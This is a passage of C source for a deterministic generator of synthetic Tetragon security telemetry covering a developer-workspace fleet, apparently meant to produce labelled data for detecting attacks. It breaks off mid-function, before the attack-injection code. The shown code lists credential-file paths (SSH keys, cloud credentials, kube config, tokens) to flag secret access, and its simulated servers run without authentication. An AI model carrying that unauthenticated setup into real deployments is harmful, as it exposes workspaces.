/* genfleet: a deterministic generator of one day of a developer-workspace fleet, written as Tetragon JSON
 * export lines (process_exec, process_exit, process_kprobe) on stdout.
 * Model: nodes of ~20 workspace pods; each workspace has an image (python-notebook, code-server node, go,
 * java, rust, cpp), an owner with a time zone, an activity class, habits (shell, prompt, git transport,
 * tmux, cloud CLIs) and 0-3 personal long-tail tools. Work sessions consist of bursts of actions separated
 * by idle gaps; each action is a process tree (exec, kprobes, exit) with consistent exec_id lineage. A
 * min-heap on (time, sequence) emits everything in non-decreasing time order. Unless --no-attacks, five
 * single attack events are injected in three workspaces after hour 14 (60% of --hours when shorter than a
 * day); --labels writes where they are. Determinism: own PRNG (splitmix64, one stream per workspace),
 * integers only, and every draw is its own statement or a sequenced operand (never two draws in one
 * argument list or one '+'), so the output does not depend on the compiler's evaluation order.
 * usage: genfleet [--workspaces N] [--hours H] [--seed S] [--start RFC3339] [--labels FILE] [--no-attacks] */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef uint64_t u64;
typedef int64_t i64;
typedef uint32_t u32;
typedef uint16_t u16;
typedef uint8_t u8;
#define USEC 1000ull
#define MSEC 1000000ull
#define SEC 1000000000ull
#define MIN (60 * SEC)
#define HOUR (3600 * SEC)
#define DAY (86400 * SEC)
static inline u64 MAXU(u64 a, u64 b) { return a > b ? a : b; }

#include "genfleet-data.h"

/* ---- PRNG ----------------------------------------------------------------------------------- */
static u64 *rs;
static u64 rnd(void)
{
	u64 z = (*rs += 0x9E3779B97F4A7C15ull);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull, z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}
static u32 below(u32 n) { return n ? (u32)(((rnd() >> 32) * n) >> 32) : 0; }
static int pct(u32 p) { return below(100) < p; }
static u64 span(u64 lo, u64 hi) { return hi > lo ? lo + rnd() % (hi - lo) : lo; }
static u64 ex(u64 mean) { return mean / 1000 * exp_q[rnd() & 255]; } /* exponential */
static u64 jit(u64 base) { return base * (300 + exp_q[rnd() & 255]) / 1000; } /* a per-user factor, 0.3x-6.5x */
/* a duration with the given median (ms): exponential, with an occasional long tail */
static u64 dms(u32 median) { u64 d = (u64)median * MSEC / 693 * exp_q[rnd() & 255] / 1000 + 200 * USEC; return pct(6) ? d * (2 + below(5)) : d; }
static u32 wpick(const u32 *w, u32 n)
{
	u64 s = 0;
	for (u32 i = 0; i < n; i++) s += w[i];
	u64 r = s ? rnd() % s : 0;
	for (u32 i = 0; i < n; i++, r -= w[i - 1])
		if (r < w[i]) return i;
	return 0;
}
#define PICK(a) ((a)[below(NELEM(a))])
static void hex(char *o, u32 n) { for (u32 i = 0; i < n; i++) o[i] = "0123456789abcdef"[rnd() & 15]; o[n] = 0; }
static void alnum(char *o, u32 n) { for (u32 i = 0; i < n; i++) o[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[below(62)]; o[n] = 0; }

/* ---- output and time ----------------------------------------------------------------------- */
static char ob[1 << 20];
static size_t on;
static u64 lineno;
static void oflush(void) { fwrite(ob, 1, on, stdout), on = 0; }
static void os(const char *s) { size_t n = strlen(s); memcpy(ob + on, s, n), on += n; }
static void oj(const char *s) /* a JSON string body */
{
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;
		if (c == '"' || c == '\\') ob[on++] = '\\', ob[on++] = (char)c;
		else if (c < 0x20) on += (size_t)sprintf(ob + on, "\\u%04x", c);
		else ob[on++] = (char)c;
	}
}
static void ou(u64 v) { on += (size_t)sprintf(ob + on, "%llu", (unsigned long long)v); }
static void oi(i64 v) { if (v < 0) ob[on++] = '-', v = -v; ou((u64)v); }
/* RFC 3339 UTC with nanoseconds (frac) or whole seconds; civil date from days (H. Hinnant) */
static void fmt_ts(u64 ns, char *o, int frac)
{
	u64 s = ns / SEC;
	u32 sod = (u32)(s % 86400);
	i64 z = (i64)(s / 86400) + 719468, era = z / 146097;
	u32 doe = (u32)(z - era * 146097), yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	u32 doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153, m = mp < 10 ? mp + 3 : mp - 9;
	int n = sprintf(o, "%04d-%02u-%02uT%02u:%02u:%02u", (int)((i64)yoe + era * 400 + (m <= 2)), m, doy - (153 * mp + 2) / 5 + 1,
			sod / 3600, sod / 60 % 60, sod % 60);
	if (frac) sprintf(o + n, ".%09uZ", (u32)(ns % SEC));
	else strcpy(o + n, "Z");
}
static void ots(u64 ns) { char b[40]; fmt_ts(ns, b, 1); os(b); }
static int parse_rfc3339(const char *s, u64 *out)
{
	int y, mo, d, h, mi, se, n = 0, oh = 0, om = 0;
	if (sscanf(s, "%4d-%2d-%2dT%2d:%2d:%2d%n", &y, &mo, &d, &h, &mi, &se, &n) != 6 || mo < 1 || mo > 12) return -1;
	const char *p = s + n;
	u64 frac = 0, scale = SEC;
	if (*p == '.')
		while (*++p >= '0' && *p <= '9') frac += (u64)(*p - '0') * (scale /= 10);
	if ((*p == '+' || *p == '-') && sscanf(p + 1, "%2d:%2d", &oh, &om) != 2) return -1;
	if (*p != '+' && *p != '-' && *p != 'Z' && *p != 'z') return -1;
	i64 off = (oh * 60 + om) * (*p == '-' ? -60 : 60);
	y -= mo <= 2; /* days from civil */
	i64 era = (y >= 0 ? y : y - 399) / 400;
	u32 yoe = (u32)(y - era * 400), doy = (u32)(153 * (mo > 2 ? mo - 3 : mo + 9) + 2) / 5 + (u32)d - 1;
	i64 secs = (era * 146097 + (i64)(yoe * 365 + yoe / 4 - yoe / 100 + doy) - 719468) * 86400 + h * 3600 + mi * 60 + se - off;
	if (secs < 0) return -1;
	*out = (u64)secs * SEC + frac;
	return 0;
}
static void b64(const char *in, char *out)
{
	static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0;
	for (size_t i = 0; i < n; i += 3) {
		u32 v = (u32)(unsigned char)in[i] << 16 | (i + 1 < n ? (u32)(unsigned char)in[i + 1] << 8 : 0) |
			(i + 2 < n ? (unsigned char)in[i + 2] : 0);
		out[o++] = tbl[(v >> 18) & 63], out[o++] = tbl[(v >> 12) & 63];
		out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=', out[o++] = i + 2 < n ? tbl[v & 63] : '=';
	}
	out[o] = 0;
}

/* ---- processes and events -------------------------------------------------------------------- */
typedef struct ws W;
typedef struct proc {
	struct proc *par;
	W *w;                     /* NULL: a host process (no pod block) */
	const char *pod, *podend; /* pod block of its container generation, split around "pid" */
	u64 start;
	u32 pid, cpid, uid;
	int refs;
	u8 clone, init;
	char id[88], *bin, *args, *cwd, s[];
} P;
struct node { char name[48]; u64 boot; u32 pid; P *systemd; };
enum { E_EXEC, E_EXIT, E_FILE, E_SOCK, E_CALL, E_WAKE };
enum { WK_SESS, WK_ACT, WK_BG, WK_END, WK_STOP, WK_ATK };
typedef struct ev {
	u64 t, seq;
	P *p;
	W *w;
	u8 kind, sub, label;
	int status;      /* exit status, file mask, session index, attack number */
	const char *str; /* exit signal, kprobe function */
	u32 ip;
	u16 port, sport;
	i64 a, b;        /* socket cookie; kprobe int args */
	char path[];
} E;

static E **hp;
static size_t hn, hcap;
static u64 seqno, now, clamped; /* clamped: events that would have gone back in time (a bug) */
static u8 g_label;
static int hless(const E *a, const E *b) { return a->t < b->t || (a->t == b->t && a->seq < b->seq); }
static void hpush(E *e)
{
	if (hn == hcap) hp = realloc(hp, (hcap = hcap ? 2 * hcap : 4096) * sizeof *hp);
	size_t i = hn++;
	for (; i && hless(e, hp[(i - 1) / 2]); i = (i - 1) / 2) hp[i] = hp[(i - 1) / 2];
	hp[i] = e;
}
static E *hpop(void)
{
	E *top = hp[0], *last = hp[--hn];
	size_t i = 0, c;
	while ((c = 2 * i + 1) < hn) {
		if (c + 1 < hn && hless(hp[c + 1], hp[c])) c++;
		if (!hless(hp[c], last)) break;
		hp[i] = hp[c], i = c;
	}
	if (hn) hp[i] = last;
	return top;
}
static E *evnew(int kind, P *p, u64 t, const char *path)
{
	size_t pl = path ? strlen(path) + 1 : 1;
	E *e = calloc(1, sizeof *e + pl);
	if (path) memcpy(e->path, path, pl);
	if (kind != E_EXEC && kind != E_WAKE) t += rnd() % 997;
	if (t < now) t = now, clamped++;
	e->kind = (u8)kind, e->p = p, e->t = t, e->seq = seqno++, e->label = g_label, g_label = 0;
	if (p) p->refs++;
	hpush(e);
	return e;
}
static void unref(P *p)
{
	for (P *q; p && --p->refs == 0; p = q) q = p->par, free(p);
}

/* ---- workspaces -------------------------------------------------------------------------------- */
enum { EN_IDE, EN_JUP, EN_SSH, EN_KEXEC };  /* how the owner gets a shell */
enum { PR_NONE, PR_PS1, PR_OMZ, PR_STAR }; /* what their prompt runs */
struct ws {
	u32 idx, node, img, ip, uid, rate, cpid;
	u64 rng;
	int tz;
	u8 cls, entry, prompt, zsh, tmux, gitssh, rsa, cred, aws, docker, kube, extk8s, autofetch, sudopw, ephemeral, old, gitpanel;
	u8 ntail, npr, cur, nss, in_sess, burst, direnv, tail[3];
	u32 aw[N_ACT];
	char user[24], home[48], owner[64], wsid[48], ns[40], pod[56], wl[48], cwd[128];
	const char *podpre, *podpost;
	struct { char name[40], org[32], dir[96]; u8 gitlab; } pr[3];
	struct { u64 s, e; } ss[32];
	u64 send, busy, last_fetch;
	P *shim, *init, *ide, *srv, *pty, *sshd, *jup, *exth, *lsp, *kern, *tmuxs, *tsh, *esh, *tcl, *sh, *sshc;
};
static struct node *nodes;
static W *wss, *cw; /* cw: the workspace being simulated (its PRNG stream is rs) */
static u32 n_ws = 200;
static u64 T0, TEND, hours = 24;
/* options of the next spawn: working directory, uid, execve without clone, no exec event */
static const char *g_cwd;
static int g_uid = -1, g_noclone, g_silent;

static u32 next_pid(struct node *n) { n->pid += 1 + below(3); return n->pid > 4194000 ? (n->pid = 300 + below(500)) : n->pid; }
static P *spawnv(P *par, u64 t, const char *bin, const char *fmt, va_list ap)
{
	char a[2048], raw[128];
	vsnprintf(a, sizeof a, fmt, ap);
	W *w = cw;
	const char *cwd = g_cwd ? g_cwd : par && par->w ? par->cwd : w->home;
	size_t lb = strlen(bin) + 1, la = strlen(a) + 1, lc = strlen(cwd) + 1;
	P *p = calloc(1, sizeof *p + lb + la + lc);
	p->bin = p->s, p->args = p->s + lb, p->cwd = p->args + la;
	memcpy(p->bin, bin, lb), memcpy(p->args, a, la), memcpy(p->cwd, cwd, lc);
	if ((p->par = par)) par->refs++;
	p->w = w, p->pod = w->podpre, p->podend = w->podpost, p->refs = 1;
	p->uid = g_uid >= 0 ? (u32)g_uid : par && par->w ? par->uid : w->uid;
	p->clone = !g_noclone, p->init = par && par->w ? par->init : 0;
	struct node *n = &nodes[w->node];
	p->pid = g_noclone && par ? par->pid : next_pid(n);
	p->cpid = g_noclone && par ? par->cpid : ++w->cpid;
	p->start = t + rnd() % 997;
	snprintf(raw, sizeof raw, "%s:%llu:%u", n->name, (unsigned long long)(p->start - n->boot), p->pid);
	b64(raw, p->id);
	if (!g_silent) evnew(E_EXEC, p, p->start, NULL);
	g_cwd = NULL, g_uid = -1, g_noclone = 0;
	return p;
}
static P *spawn(P *par, u64 t, const char *bin, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	P *p = spawnv(par, t, bin, fmt, ap);
	va_end(ap);
	return p;
}
/* the exit event (a signal name or a status) and the release of the owner's reference */
static void fin_sig(P *p, u64 t, int status, const char *sig)
{
	if (!p) return;
	if (t < p->start + 100 * USEC) t = p->start + 100 * USEC + below(900) * USEC;
	E *e = evnew(E_EXIT, p, t, NULL);
	e->status = status, e->str = sig;
	unref(p);
}
static void fin(P *p, u64 t, int status) { fin_sig(p, t, status, NULL); }
#define replaced unref /* a process image replaced by execve: no exit event of its own */
/* spawn, then exit after a duration with the given median; returns the exit time */
static u64 leaf(P *par, u64 t, u32 median_ms, const char *bin, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	P *p = spawnv(par, t, bin, fmt, ap);
	va_end(ap);
	u64 e = t + dms(median_ms);
	fin(p, e, pct(4) ? 1 : 0);
	return e;
}
static void kfile(P *p, u64 t, const char *path, int mask) { evnew(E_FILE, p, t, path)->status = mask; }
static void kcall(P *p, u64 t, const char *fn, int nargs, i64 a, i64 b) { E *e = evnew(E_CALL, p, t, NULL); e->str = fn, e->sub = (u8)nargs, e->a = a, e->b = b; }
static u32 ip4(u32 a, u32 b, u32 c, u32 d) { return a << 24 | b << 16 | c << 8 | d; }
static void ksock(P *p, u64 t, u32 ip, u16 port)
{
	E *e = evnew(E_SOCK, p, t, NULL);
	e->ip = ip, e->port = port, e->sport = (u16)(32768 + below(28000)), e->a = (i64)(0xffff888100000000ull + (rnd() & 0x3ffffffffull) * 64); /* a kernel address */
}
/* a connection to a destination: D_* public pool, DST_SVC(S_*) cluster service, DST_LOCAL loopback */
static u64 conn(P *p, u64 t, int dst, u16 port)
{
	u32 ip, a, b, c, d;
	u16 pt;
	if (dst >= DST_LOCAL) ip = ip4(127, 0, 0, 1), pt = port ? port : 8080;
	else if (dst >= 100) {
		sscanf(svcs[dst - 100].ip, "%u.%u.%u.%u", &a, &b, &c, &d);
		ip = ip4(a, b, c, d), pt = port ? port : svcs[dst - 100].port;
	} else {
		const struct dstpool *dp = &dst_public[dst];
		c = dp->c0 + below(dp->cn), d = dp->d0 + below(dp->dn);
		ip = ip4(dp->a, dp->b, c, d), pt = port ? port : dp->port;
	}
	ksock(p, t, ip, pt);
	return t + span(2, 40) * MSEC;
}
/* a long-running foreground process ends by the end of the session (plus a little) */
static u64 capd(u64 t, u64 d) { return cw->in_sess && cw->send > t && t + d > cw->send + 2 * MIN ? cw->send - t + span(SEC, 2 * MIN) : d; }

/* ---- templates: one of the '|'-separated alternatives, {placeholders} expanded ------------------ */
static const char *alt(const char *tmpl)
{
	static char b[1024];
	u32 n = 1, k;
	for (const char *p = tmpl; *p; p++) n += *p == '|';
	for (k = below(n); k; tmpl++) k -= *tmpl == '|';
	size_t l = strcspn(tmpl, "|");
	memcpy(b, tmpl, l), b[l] = 0;
	return b;
}
static void xp(const char *in, char *out, size_t cap);
static const char *subdir(void) { return subdirs[cw->img][below(4)]; }
static const char *ph(const char *k, char *b)
{
	static const uint16_t ports[] = {3000, 5000, 5173, 8000, 8080, 8081, 8888, 9000, 4200, 8443};
	static u8 lastdb = S_PG;
	static const char *const keys[] = {"home", "user", "owner", "proj", "pdir", "org", "ext", "key"};
	W *w = cw;
	const char *s, *vals[] = {w->home, w->user, w->owner, w->pr[w->cur].name, w->pr[w->cur].dir, w->pr[w->cur].org, ext_by_image[w->img],
				  w->rsa ? "id_rsa" : "id_ed25519"};
	for (u32 i = 0; i < NELEM(keys); i++)
		if (!strcmp(k, keys[i])) return vals[i];
	if (!strcmp(k, "sub")) return subdir();
	if (!strcmp(k, "word")) return PICK(words);
	if (!strcmp(k, "ns")) return PICK(k8s_ns);
	if (!strcmp(k, "pkg"))
		return w->img == IMG_PY ? PICK(pip_pkgs) : w->img == IMG_NODE ? PICK(npm_pkgs) : w->img == IMG_GO ? PICK(go_mods)
		       : w->img == IMG_RUST ? PICK(crates) : PICK(apt_pkgs);
	if (!strcmp(k, "n")) return sprintf(b, "%u", pct(70) ? 1 + below(50) : below(5000)), b;
	if (!strcmp(k, "pidn")) return sprintf(b, "%u", 100 + below(60000)), b;
	if (!strcmp(k, "port")) return sprintf(b, "%u", pct(85) ? PICK(ports) : 1024 + below(60000)), b;
	if (!strcmp(k, "dbhost")) return svcs[lastdb = PICK(db_svcs)].name; /* {dbport} follows */
	if (!strcmp(k, "dbport")) return sprintf(b, "%u", svcs[lastdb].port), b;
	if (!strcmp(k, "h7")) return hex(b, 7), b;
	if (!strcmp(k, "h40")) return hex(b, 40), b;
	if (!strcmp(k, "hexkey")) return hex(b, 16), b; /* a GPG key id */
	if (!strcmp(k, "uuid")) {
		hex(b, 32);
		memmove(b + 21, b + 20, 13), memmove(b + 17, b + 16, 18), memmove(b + 13, b + 12, 23), memmove(b + 9, b + 8, 28);
		return b[8] = b[13] = b[18] = b[23] = '-', b[14] = '4', b[19] = "89ab"[rnd() & 3], b; /* version 4 */
	}
	if (!strcmp(k, "tmp")) return strcpy(b, "/tmp/tmp."), alnum(b + 9, 10), b;
	if (!strcmp(k, "file")) return s = subdir(), sprintf(b, "%s/%s.%s", s, PICK(words), ext_by_image[w->img]), b;
	if (!strcmp(k, "branch")) return s = PICK(branch_pfx), sprintf(b, "%s%s-", s, PICK(words)), strcat(b, PICK(words));
	if (!strcmp(k, "msg")) return xp(PICK(commit_msgs), b, 200), b;
	if (!strcmp(k, "run")) return xp(run_cmd[w->img], b, 300), b;
	return NULL;
}
static void xp(const char *in, char *out, size_t cap)
{
	size_t o = 0;
	char b[400], k[12];
	const char *e, *v;
	while (*in && o + 1 < cap) {
		if (*in == '{' && (e = strchr(in, '}')) && e - in < 12 && e > in + 1) {
			memcpy(k, in + 1, (size_t)(e - in - 1)), k[e - in - 1] = 0;
			if ((v = ph(k, b))) {
				size_t l = strlen(v);
				if (o + l >= cap) l = cap - o - 1;
				memcpy(out + o, v, l), o += l, in = e + 1;
				continue;
			}
		}
		out[o++] = *in++;
	}
	out[o] = 0;
}
static const char *X(const char *tmpl) /* expanded into one of 8 rotating buffers */
{
	static char b[8][1024];
	static int i;
	i = (i + 1) & 7;
	xp(tmpl, b[i], sizeof b[i]);
	return b[i];
}

/* ---- rendering ------------------------------------------------------------------------------------ */
static void oproc(const P *p)
{
	os("{\"exec_id\":\""), os(p->id), os("\",\"pid\":"), ou(p->pid), os(",\"uid\":"), ou(p->uid);
	os(",\"cwd\":\""), oj(p->cwd), os("\",\"binary\":\""), oj(p->bin), os("\"");
	if (*p->args) os(",\"arguments\":\""), oj(p->args), os("\"");
	os(p->clone ? ",\"flags\":\"execve clone" : ",\"flags\":\"execve"), os(p->init ? " inInitTree\"" : "\"");
	os(",\"start_time\":\""), ots(p->start), os("\",\"auid\":4294967295,");
	if (p->w) os(p->pod), ou(p->cpid), os(p->podend);
	os("\"parent_exec_id\":\""), os(p->par ? p->par->id : "a3ViZWxldDox"), os("\",\"tid\":"), ou(p->pid), os("}");
}
static void render(const E *e)
{
	static const char *const kinds[] = {"{\"process_exec\":{\"process\":", "{\"process_exit\":{\"process\":", "{\"process_kprobe\":{\"process\":"};
	const P *p = e->p;
	const char *f = e->path;
	char b[160];
	os(kinds[e->kind > E_FILE ? E_FILE : e->kind]), oproc(p);
	if (p->par && p->par->w) os(",\"parent\":"), oproc(p->par);
	if (e->kind == E_EXIT) {
		os(",\"status\":"), oi(e->status);
		if (e->str) os(",\"signal\":\""), os(e->str), os("\"");
		os(",\"time\":\""), ots(e->t), os("\"");
	} else if (e->kind == E_FILE) {
		int secret = strstr(f, "/.ssh/id_") || strstr(f, "credentials") || strstr(f, ".kube/config") || strstr(f, "hosts.yml") ||
			     strstr(f, ".pgpass") || strstr(f, "token");
		os(",\"function_name\":\"security_file_permission\",\"args\":[{\"file_arg\":{\"path\":\""), oj(f), os("\",\"permission\":\"");
		os(strstr(f, "/etc/shadow") ? "-rw-r-----" : secret && !strstr(f, ".pub") ? "-rw-------" : "-rw-r--r--");
		os("\"}},{\"int_arg\":"), ou((u64)e->status);
		os("}],\"return\":{\"int_arg\":0},\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-sensitive-files\"");
	} else if (e->kind == E_SOCK) {
		u32 s = p->w->ip, d = e->ip;
		sprintf(b, "\"saddr\":\"%u.%u.%u.%u\",\"daddr\":\"%u.%u.%u.%u\",\"sport\":", s >> 24, s >> 16 & 255, s >> 8 & 255, s & 255, d >> 24,
			d >> 16 & 255, d >> 8 & 255, d & 255);
		os(",\"function_name\":\"tcp_connect\",\"args\":[{\"sock_arg\":{\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\",\"protocol\":\"IPPROTO_TCP\",");
		os(b), ou(e->sport), os(",\"dport\":"), ou(e->port), os(",\"cookie\":\""), ou((u64)e->a);
		os("\",\"state\":\"TCP_SYN_SENT\"}}],\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-egress\"");
	} else if (e->kind == E_CALL) {
		os(",\"function_name\":\""), os(e->str), os("\",\"args\":[{\"int_arg\":"), oi(e->a);
		if (e->sub > 1) os("},{\"int_arg\":"), oi(e->b);
		os("}],\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-kernel\"");
	}
	if (e->kind >= E_FILE) os(",\"return_action\":\"KPROBE_ACTION_POST\"");
	os("},\"node_name\":\""), os(nodes[p->w->node].name), os("\",\"time\":\""), ots(e->t), os("\"}\n");
	lineno++;
	if (on > sizeof ob - 65536) oflush();
}

/* ---- pods --------------------------------------------------------------------------------------------- */
static void pod_strings(W *w, u64 start)
{
	static const char *const oldtag[N_IMG] = {"2026.09.1", "2026.09", "1.23-2026.09", "21-2026.08", "1.81-2026.09", "13-2026.09"};
	char cid[65], dig[65], st[40], b[1400];
	u64 *keep = rs, r = 0x5EED00 + w->img * 2 + w->old; /* the image digest depends on the image only */
	rs = &r, hex(dig, 64), rs = keep;
	hex(cid, 64), fmt_ts(start, st, 0);
	snprintf(b, sizeof b, "\"pod\":{\"namespace\":\"%s\",\"name\":\"%s\",\"container\":{\"id\":\"containerd://%s\",\"name\":\"dev\",\"image\":"
		 "{\"id\":\"registry.example.com/devenv/%s@sha256:%s\",\"name\":\"registry.example.com/devenv/%s:%s\"},\"start_time\":\"%s\",\"pid\":",
		 w->ns, w->pod, cid, image_names[w->img], dig, image_names[w->img], w->old ? oldtag[w->img] : image_tags[w->img], st);
	free(w->podpre); /* a restarted pod's strings replace the old ones */
	w->podpre = strdup(b);
	snprintf(b, sizeof b, "},\"pod_labels\":{\"worktrace.io/owner\":\"%s\",\"worktrace.io/workspace\":\"%s\"},\"workload\":\"%s\","
		 "\"workload_kind\":\"StatefulSet\"},\"docker\":\"%.31s\",", w->owner, w->wsid, w->wl, cid);
	free(w->podpost);
	w->podpost = strdup(b);
}
/* the container's long-lived processes; silent when the pod started before the window */
static void pod_boot(W *w, u64 t, int silent)
{
	struct node *n = &nodes[w->node];
	char raw[128];
	w->cpid = 0, pod_strings(w, t);
	P *s = w->shim = calloc(1, sizeof(P) + 160); /* the runtime shim: a host process */
	s->bin = s->s, s->args = s->s + 40, s->cwd = s->s + 150;
	strcpy(s->bin, "/usr/bin/containerd-shim-runc-v2"), strcpy(s->args, "-namespace k8s.io"), strcpy(s->cwd, "/");
	s->par = n->systemd, n->systemd->refs++, s->refs = 1, s->pid = next_pid(n), s->start = t - 2 * SEC;
	snprintf(raw, sizeof raw, "%s:%llu:%u", n->name, (unsigned long long)(s->start - n->boot), s->pid);
	b64(raw, s->id);
	g_silent = silent, g_cwd = w->home;
	w->init = spawn(s, t, "/usr/bin/tini", "-g -- /usr/local/bin/start-workspace.sh");
	w->init->init = 1, g_cwd = w->home;
	if (w->img == IMG_PY)
		g_noclone = 1, w->jup = spawn(w->init, t + 30 * MSEC, PY3, "/opt/conda/bin/jupyter-lab --ServerApp.ip=0.0.0.0 --ServerApp.port=8888 "
					      "--ServerApp.token= --ServerApp.root_dir=%s", w->home);
	else {
		w->ide = spawn(w->init, t + 30 * MSEC, CSNODE, "/usr/lib/code-server --bind-addr 0.0.0.0:8080 --auth none --disable-telemetry %s",
			       w->pr[0].dir);
		w->srv = spawn(w->ide, t + 600 * MSEC, CSNODE, "/usr/lib/code-server/out/node/entry");
		w->pty = spawn(w->srv, t + 900 * MSEC, CSNODE, "--dns-result-order=ipv4first /usr/lib/code-server/lib/vscode/out/bootstrap-fork "
			       "--type=ptyHost --logsPath %s/.local/share/code-server/logs", w->home);
	}
	if (w->entry == EN_SSH) w->sshd = spawn(w->init, t + 40 * MSEC, "/usr/sbin/sshd", "-D -e -p 2222");
	g_silent = 0;
}
static void pod_stop(W *w, u64 t)
{
	P **ps[] = {&w->kern, &w->tsh, &w->tmuxs, &w->lsp, &w->exth, &w->pty, &w->srv, &w->ide, &w->jup, &w->sshd, &w->init};
	for (size_t i = 0; i < NELEM(ps); i++)
		if (*ps[i]) fin_sig(*ps[i], t + i * 3 * MSEC, 0, "SIGTERM"), *ps[i] = NULL;
	unref(w->shim), w->shim = NULL;
}

/* ---- shells and sessions ------------------------------------------------------------------------------- */
static u64 shell_rc(P *sh, u64 t) /* what a new interactive shell runs from its rc files */
{
	W *w = cw;
	if (!w->zsh) {
		t = leaf(sh, t + MSEC, 2, "/usr/bin/dircolors", "-b") + 300 * USEC;
		P *lp = spawn(sh, t, "/usr/bin/lesspipe", "");
		u64 c = leaf(lp, t + 400 * USEC, 1, "/usr/bin/basename", "/usr/bin/lesspipe");
		c = leaf(lp, c + 200 * USEC, 1, "/usr/bin/dirname", "/usr/bin/lesspipe");
		fin(lp, c + MSEC, 0), t = c + 2 * MSEC;
	} else
		t = leaf(sh, t + 2 * MSEC, 3, "/usr/bin/git", "-c gc.auto=0 -C %s/.oh-my-zsh rev-parse --short HEAD", w->home);
	if (w->prompt == PR_STAR) t = leaf(sh, t + MSEC, 4, "/usr/local/bin/starship", "init %s --print-full-init", w->zsh ? "zsh" : "bash");
	if (w->direnv) t = leaf(sh, t + MSEC, 3, "/usr/bin/direnv", "hook %s", w->zsh ? "zsh" : "bash");
	return t;
}
static u64 prompt(P *sh, u64 t) /* what the shell runs to draw its prompt after every command */
{
	W *w = cw;
	t += 2 * MSEC;
	if (w->prompt == PR_PS1)
		t = leaf(sh, t, 3, "/usr/bin/git", "rev-parse --git-dir --is-inside-git-dir --is-bare-repository --is-inside-work-tree --short HEAD");
	else if (w->prompt == PR_OMZ) {
		t = leaf(sh, t, 2, "/usr/bin/git", "symbolic-ref --quiet HEAD");
		if (pct(30)) t = leaf(sh, t + 300 * USEC, 3, "/usr/bin/git", "--no-optional-locks status --porcelain=v1 --untracked-files=no");
	} else if (w->prompt == PR_STAR) {
		u32 width = 80 + below(140);
		t = leaf(sh, t, 6, "/usr/local/bin/starship", "prompt --terminal-width=%u --keymap=main --status=0 --pipestatus=0 --cmd-duration=%u "
			 "--jobs=0", width, 2 + below(9000));
	}
	if (w->direnv) t = leaf(sh, t + 300 * USEC, 4, "/usr/bin/direnv", "export %s", w->zsh ? "zsh" : "bash");
	return t;
}
static P *new_shell(P *par, u64 t, const char *args)
{
	g_cwd = cw->cwd;
	P *sh = spawn(par, t, cw->zsh ? "/usr/bin/zsh" : "/bin/bash", "%s", args);
	cw->busy = shell_rc(sh, t);
	return sh;
}
static P *ensure_sh(W *w, u64 t) /* the interactive shell of the session, opened on first use */
{
	if (w->sh) return w->sh;
	P *par = w->entry == EN_KEXEC ? w->shim : w->entry == EN_SSH && w->sshc ? w->sshc : w->img == IMG_PY ? w->jup : w->pty;
	w->sh = w->esh = new_shell(par, t, w->entry == EN_KEXEC ? "-l" : "");
	if (w->tmux) {
		u64 c = w->busy + span(2, 20) * SEC;
		w->tcl = spawn(w->esh, c, "/usr/bin/tmux", pct(50) ? "new -A -s main" : "attach");
		if (!w->tmuxs) w->tmuxs = spawn(w->tcl, c + 2 * MSEC, "/usr/bin/tmux", "new -A -s main"), w->tsh = new_shell(w->tmuxs, c + 5 * MSEC, "");
		w->sh = w->tsh;
	}
	return w->sh;
}
static P *ensure_kernel(W *w, u64 t)
{
	if (!w->kern && w->jup) {
		g_cwd = w->pr[w->cur].dir;
		w->kern = spawn(w->jup, t, PY3, "-m ipykernel_launcher -f %s", X("{home}/.local/share/jupyter/runtime/kernel-{uuid}.json"));
	}
	return w->kern;
}
static void sess_start(W *w, u64 t, int si)
{
	w->in_sess = 1, w->send = w->ss[si].e, w->burst = 0;
	if (!w->init) pod_boot(w, t, 0), t += span(8, 40) * SEC;
	if (pct(15)) w->cur = (u8)below(w->npr);
	snprintf(w->cwd, sizeof w->cwd, "%s", pct(85) ? w->pr[w->cur].dir : w->home);
	if (w->entry == EN_SSH && w->sshd) {
		w->sshc = spawn(w->sshd, t, "/usr/sbin/sshd", "-D -e -p 2222 -R");
		kfile(w->sshc, t + 3 * MSEC, X("{home}/.ssh/authorized_keys"), 4);
	}
	if (w->img != IMG_PY) { /* the browser connects: a new extension host with its language server */
		u64 c = t + span(1, 4) * SEC;
		w->exth = spawn(w->srv, c, CSNODE, "--dns-result-order=ipv4first /usr/lib/code-server/lib/vscode/out/bootstrap-fork "
				"--type=extensionHost --transformURIs --useHostProxy=false");
		g_cwd = w->pr[w->cur].dir, c = leaf(w->exth, c + 800 * MSEC, 3, "/usr/bin/git", "--version");
		g_cwd = w->pr[w->cur].dir, c = leaf(w->exth, c + 20 * MSEC, 3, "/usr/bin/git", "rev-parse --show-toplevel");
		const char *bin = X(lsp_cmd[w->img][0]);
		w->lsp = spawn(w->exth, c + 100 * MSEC, bin, "%s", X(lsp_cmd[w->img][1]));
		if (pct(80)) ensure_sh(w, c + span(2, 90) * SEC);
	} else if (w->entry == EN_JUP) {
		if (pct(85)) ensure_kernel(w, t + span(5, 120) * SEC);
	} else
		ensure_sh(w, t + span(1, 5) * SEC);
}
static void sess_end(W *w, u64 t)
{
	u64 e = MAXU(t, w->busy) + span(50, 2000) * MSEC;
	if (w->sh && w->sh != w->tsh) fin(w->sh, e, 0);
	else if (w->tcl) fin(w->tcl, e, 0), fin(w->esh, e + 5 * MSEC, 0);
	w->sh = w->esh = w->tcl = NULL;
	if (w->sshc) fin(w->sshc, e + 10 * MSEC, 0), w->sshc = NULL;
	if (w->exth) { /* the extension host outlives the browser tab a little */
